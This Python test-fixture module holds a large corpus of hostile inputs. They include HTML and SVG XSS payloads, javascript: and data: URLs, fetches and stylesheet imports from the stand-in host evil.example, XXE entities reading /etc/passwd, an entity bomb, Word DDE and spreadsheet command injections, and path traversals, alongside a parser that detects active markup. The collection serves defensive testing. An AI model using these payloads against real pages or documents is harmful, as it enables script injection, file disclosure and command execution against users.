"""What a stranger may write to make a page act. Each calls ``pwn()`` where it gets that far."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

_TAGS = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script/x>pwn()</script>",
    "<img src=x.svg onerror=pwn()>",
    "<img/src=x.svg/onerror=pwn()>",
    '<img src="x.svg" onerror="pwn()">',
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<math><mtext><script>pwn()</script></mtext></math>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<input autofocus onfocus=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x.svg onerror=pwn()>",
    "<body onload=pwn()>",
    "<style>@import 'x'; body{display:none}</style>",
    "<style onload=pwn()></style>",
    "<link rel=stylesheet href=x onerror=pwn()>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q></form>",
    "<marquee onstart=pwn()>x</marquee>",
    "<a href=javascript:pwn() autofocus onfocus=pwn()>x</a>",
    "<!--><script>pwn()</script>-->",
    "<![CDATA[><script>pwn()</script>]]>",
    "<?x ><script>pwn()</script>?>",
)
_BEFORE = ("", '">', "'>", "-->", "</script>", "</style>", "</title></textarea>", "]]>")
_OUT_OF_ATTRIBUTES = tuple(
    f"{mark} {event}=pwn() x={mark}"
    for mark in ('"', "'", "", "`", "&quot;", "&#39;", "\u2028")
    for event in (
        "onload",
        "onerror",
        "onmouseover",
        "autofocus onfocus",
        "style=x:y onanimationend",
    )
)
_ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "\x01javascript:pwn()".replace("\x01", " "),
    "java\u200bscript:pwn()",
    "javascript%3apwn()",
    "javascript%253Apwn()",
    "java&#115;cript:pwn()",
    "javascript&colon;pwn()",
    "javascript&#x3a;pwn()",
    "&#106;avascript:pwn()",
    "%6aavascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "ms-msdt:/id PCWDiagnostic",
    "intent:#Intent;action=x;end",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "view-source:javascript:pwn()",
    "filesystem:https://evil.example/x",
    "feed:javascript:pwn()",
    "jar:javascript:pwn()!/",
)
_LINKS = tuple(f"[x]({address})" for address in _ADDRESSES if " " not in address)
_PROGRAMS = (
    "pwn()",
    "';pwn();'",
    '";pwn();"',
    "*/pwn()/*",
    "\\';pwn();//",
    "${pwn()}",
    "{{pwn()}} {% x %}",
    "expression(pwn())",
    "url(javascript:pwn())",
    "}</style><script>pwn()</script>",
    "x;background:url(https://evil.example/x)",
    "\u202etxet\u202c",
    ":::\n\n<script>pwn()</script>",
    "a\n\n<script>pwn()</script>",
    "# heading",
    "| --- |",
    "{#id}",
    "`</code><script>pwn()</script>`",
    "<script",
    "script>pwn()</script",
    "x autofocus tabindex=1 onfocus=pwn() ",
    "{v} {term.t0}",
)
# What acts elsewhere than in a page: in the typesetter, Word, a spreadsheet, a reader of XML.
_ELSEWHERE = (
    '#import "@preview/x:1.0.0": *',
    '#read("/etc/passwd")',
    '#eval("1 + 1")',
    '#image("../../../../etc/passwd")',
    "$ #panic(1) $",
    ' INCLUDETEXT "/etc/passwd" ',
    ' DDEAUTO cmd "/k calc" ',
    ' HYPERLINK "javascript:pwn()" ',
    " MACROBUTTON pwn pwn() ",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("javascript:pwn()")',
    '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>&b;',
    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "&lt;w:instrText&gt; DATE &lt;/w:instrText&gt;",
    "../../../../../../etc/passwd",
    "[x](../../../../../../etc/passwd)",
    "![x](../../../../../../etc/passwd)",
)
STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_TAGS,
            *(f"{before}<img src=x.svg onerror=pwn()>" for before in _BEFORE),
            *(f"{before}<script>pwn()</script>" for before in _BEFORE),
            *_OUT_OF_ATTRIBUTES,
            *_ADDRESSES,
            *_LINKS,
            *_ELSEWHERE,
            *_PROGRAMS,
        ]
    )
)
EVIL = "evil.example"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100">{}</svg>\n'
# What a stranger may put into a drawing: a picture of a text, or the logo of a theme.
IN_A_DRAWING = [
    f'<script>fetch("https://{EVIL}")</script>',
    f'<script href="https://{EVIL}/a.js"/>',
    f'<image href="https://{EVIL}/a.png" width="9" height="9"/>',
    f'<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="//{EVIL}/a.png"/>',
    '<image href="file:///etc/passwd"/>',
    '<image href="../../../../secret.txt"/>',
    f'<use href="https://{EVIL}/a.svg#x"/>',
    f"<a href=\"javascript:alert('{EVIL}')\"><text>x</text></a>",
    f"<a href=\"java&#10;script:alert('{EVIL}')\"><text>x</text></a>",
    f'<circle r="9" onload="alert(\'{EVIL}\')"/>',
    f'<circle r="9" fill="url(https://{EVIL}/a.svg#x)"/>',
    f'<circle r="9" style="fill: url(\'//{EVIL}/x\')"/>',
    f'<style>@import "https://{EVIL}/a.css";</style>',
    f"<style>circle {{ fill: \\75rl(//{EVIL}/x) }}</style>",
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//{EVIL}"/></foreignObject>',
    f'<animate attributeName="href" values="javascript:alert(\'{EVIL}\')"/>',
    f'<set attributeName="href" to="https://{EVIL}"/>',
    f"<image href=\"data:image/svg+xml,&lt;svg onload=alert('{EVIL}')>\"/>",
    f'<image href="data:text/html,{EVIL}"/>',
    f'<feImage href="https://{EVIL}/a.png"/>',
    f'<handler xmlns="http://www.w3.org/2001/xml-events">alert("{EVIL}")</handler>',
]
WHOLE_DRAWINGS = [
    f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{SVG.format("<text>&a;</text>")}',
    f'<!DOCTYPE svg SYSTEM "https://{EVIL}/a.dtd">{SVG.format("<text>&a;</text>")}',
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    f'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>{SVG.format("<text>&c;</text>")}',
    f'<?xml-stylesheet href="https://{EVIL}/a.css"?>{SVG.format("<g/>")}',
    f"<html><body onload=\"alert('{EVIL}')\"></body></html>",
    SVG.format("<g>" * 400 + "</g>" * 400),
    "",
]
_OPENS = re.compile(r"(?:https?|mailto|tel|sms):|(?![a-z][a-z0-9+.-]*:)", re.IGNORECASE)
_ADDRESS_OF = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster"})
_SHAPED = re.compile(r"data:image/(?:png|jpeg|gif|webp|avif|svg\+xml);base64,")


class Seen(HTMLParser):
    """What of a page a browser would run, follow or fetch."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.acting: list[str] = []
        self._program = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # A block of data is run by no browser; a tag in it that ends it would show here.
        is_data = ("type", "application/json") in attrs
        self._program = tag if tag in ("script", "style") and not is_data else ""
        if tag in ("iframe", "object", "embed", "form", "base", "animate", "math", "marquee"):
            self.acting.append(f"<{tag}>")
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20\u200b\u2028]", "", value or "")
            if name.startswith("on") or name in ("srcdoc", "style"):
                self.acting.append(f"<{tag} {name}={value}>")
            if name in _ADDRESS_OF and not (_OPENS.match(plain) or _SHAPED.match(plain)):
                self.acting.append(f"<{tag} {name}={value}>")
            if name == "http-equiv" and plain.lower() == "refresh":
                self.acting.append("refresh")
            if name == "src" and re.match(r"(?:https?:)?//", plain):
                self.acting.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self._program and ("pwn" in data or "evil" in data):
            self.acting.append(f"<{self._program}>{data}")

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002
        self._program = ""


def acting(text: str) -> list[str]:
    return Seen(text).acting


def markdown_links(text: str) -> Iterator[str]:
    """The addresses that some Markdown program or other would make links of."""
    for found in re.finditer(r"(?<!\\)\]\(\s*<?([^\s<>]+)", text):
        yield found[1]
    for found in re.finditer(r"(?<!\\)<([A-Za-z][\w+.-]*:[^\s<>]*)>", text):
        yield found[1]
